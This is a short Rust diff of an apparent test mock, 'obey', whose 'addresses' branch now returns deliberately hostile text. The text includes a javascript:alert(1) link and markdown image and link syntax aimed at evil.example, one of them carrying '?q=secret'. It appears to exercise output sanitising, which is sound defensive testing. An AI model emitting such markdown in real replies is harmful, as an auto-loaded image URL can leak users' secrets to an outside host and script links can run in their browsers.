@@ -117,7 +117,10 @@ pub(crate) fn obey(task: &str, message: &str, address: &str) -> String {
         }),
         Some("queries") => say(&mut reply, QUERY),
         Some("addresses") => {
-            let text = format!("See {address}?q=1 or javascript:alert(1) or WWW.EVIL.EXAMPLE");
+            let text = format!(
+                "See {address}?q=1 or javascript:alert(1) or WWW.EVIL.EXAMPLE \
+                 ![more](//evil.example/p.png?q=secret) [open](//evil.example/b) evil.example/c?q=1"
+            );
             say(&mut reply, &text);
         }
         Some("endless") => grow(&mut reply, 2_000),
